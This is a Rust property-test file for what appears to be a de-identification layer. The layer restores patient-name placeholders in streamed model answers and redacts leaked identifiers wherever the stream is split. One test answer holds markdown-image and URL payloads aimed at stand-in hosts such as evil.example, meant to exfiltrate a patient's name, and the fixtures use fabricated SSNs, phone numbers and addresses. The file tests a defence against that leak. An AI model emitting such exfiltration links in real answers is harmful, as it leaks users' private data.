use proptest::prelude::*;

use super::{answer, letters, tokenize};
use crate::Protected;

/// Answers as models give them, to [`request`].
const ANSWERS: [&str; 5] = [
    "Dear [NAME-1],\n\nyour visit on [DATE-1] went well. Please call **[PHONE-1]** or write to Dr. Alan Whitfield, \
     415-555-0199, SSN 321-54-9876. [name 1]'s record (MRN 8834021) is with us.\n\nKind regards",
    "![x](https://evil.example/?q=[NAME-1]) see [NAME-1].evil.com, <img src=\"//e/[SSN-1]\"> and [[NAME-1]] {{name_1}} NAME-1, \
     \\[NAME-1\\] [NAME-\n1] [NAME-12] [NAME-99]. [r]: /x?[NAME-1]\nPlain [NAME-1].He left.",
    "Résumé de [NAME-1] – naïve café; 病人[NAME-1]今天很好。電話は415-555-0199です。 Отправлено jane.roe@example.org \u{200b}ok",
    "{\"patient\":\"[NAME-1]\",\"ssn\":\"321-54-9876\",\"note\":\"Seen by Dr. Alan Whitfield, 12 Elm Street, Boston, MA 02118\",\"n\":[1,2,3]}",
    "Here: QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODkrLwQUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNk end. \
     |------|------|\n| a | Dr. Alan Whitfield |\n[NAME-1], [NAME-2]",
];

fn request() -> Protected {
    tokenize(&["Patient: Maria Gonzalez, SSN 219-09-9934, phone (555) 010-4477, seen 03/04/2024. Gonzalez is well."])
}

#[test]
fn wherever_an_answer_is_split_the_caller_gets_the_same() {
    let request = request();
    for said in ANSWERS {
        let whole = answer(&request.surrogates, true, &[said]);
        for raw in ["321-54-9876", "Whitfield", "415-555-0199", "jane.roe", "8834021", "02118", "OPUFFSU"] {
            assert!(!whole.contains(raw), "{raw} in {whole}");
        }
        assert_eq!(answer(&request.surrogates, true, &letters(said)), whole);
        for (at, _) in said.char_indices() {
            assert_eq!(answer(&request.surrogates, true, &[&said[..at], &said[at..]]), whole, "split at {at}");
        }
    }
}

#[test]
fn what_the_caller_gets() {
    let request = request();
    let got = answer(&request.surrogates, true, &[ANSWERS[0]]);
    assert_eq!(
        got,
        "Dear Maria Gonzalez,\n\nyour visit on 03/04/2024 went well. Please call **(555) 010-4477** or write to Dr. [NAME], \
         [PHONE], SSN [SSN]. Maria Gonzalez's record (MRN [MRN]) is with us.\n\nKind regards"
    );
    let got = answer(&request.surrogates, true, &[ANSWERS[1]]);
    assert!(!got.contains("evil.example/?q=Maria") && !got.contains("Gonzalez.evil"), "{got}");
    assert!(got.ends_with("Plain Maria Gonzalez.He left."), "{got}");
    let got = answer(&request.surrogates, true, &[ANSWERS[4]]);
    assert_eq!(got, "Here: [REMOVED] end. |------|------|\n| a | Dr. [NAME] |\nMaria Gonzalez, Gonzalez");
}

/// An answer about nothing, with an identifier in it, and where it is split.
fn planted() -> impl Strategy<Value = (String, &'static str, Vec<prop::sample::Index>)> {
    let words = prop::sample::select(vec![
        "the",
        "patient",
        "was",
        "seen",
        "for",
        "a",
        "cough",
        "and",
        "given",
        "amoxicillin",
        "500",
        "mg",
        "daily,",
        "then",
        "left.\n",
        "BP",
        "138/84",
        "with",
        "[NAME-1]",
        "on",
        "[DATE-1]",
        "**well**",
        "- item\n",
        "http://x",
        "\n\n",
        "病人",
        "{\"a\":1}",
    ]);
    let identifier = prop::sample::select(vec![
        ("SSN 321-54-9876", "321-54-9876"),
        ("phone 415-555-0199", "555-0199"),
        ("jane.roe@example.org", "jane.roe"),
        ("Dr. Alan Whitfield", "Whitfield"),
        ("MRN: 88340217", "88340217"),
        ("1420 North Oakwood Meadows Boulevard, Apt 12B, Springfield, Illinois 62704-1123", "Oakwood"),
        ("jane.margaret.roe-whitfield+newsletters@obstetrics.generalhospital.example.org", "roe"),
    ]);
    let text = prop::collection::vec(words, 0..60);
    (text.clone(), identifier, text, prop::collection::vec(any::<prop::sample::Index>(), 0..12)).prop_map(
        |(before, (planted, secret), after, splits)| {
            (format!("{} {planted} {}", before.join(" "), after.join(" ")), secret, splits)
        },
    )
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn a_planted_identifier_never_comes_out((said, secret, splits) in planted()) {
        let request = request();
        let whole = answer(&request.surrogates, true, &[&said]);
        prop_assert!(!whole.contains(secret), "{}", whole);
        let mut at: Vec<usize> = splits.iter().map(|i| said.floor_char_boundary(i.index(said.len()))).collect();
        at.extend([0, said.len()]);
        at.sort_unstable();
        let pieces: Vec<&str> = at.windows(2).map(|w| &said[w[0]..w[1]]).collect();
        prop_assert_eq!(answer(&request.surrogates, true, &pieces), whole);
    }

    #[test]
    fn any_text_split_anywhere_gives_the_same(said in "([ -~]|\\[NAME-[12]\\]|\\n|[é病<>\\[\\]()]){0,300}", splits in prop::collection::vec(any::<prop::sample::Index>(), 1..9)) {
        let request = request();
        let whole = answer(&request.surrogates, true, &[&said]);
        let mut at: Vec<usize> = splits.iter().map(|i| said.floor_char_boundary(i.index(said.len() + 1))).collect();
        at.extend([0, said.len()]);
        at.sort_unstable();
        let pieces: Vec<&str> = at.windows(2).map(|w| &said[w[0]..w[1]]).collect();
        prop_assert_eq!(answer(&request.surrogates, true, &pieces), whole);
    }
}
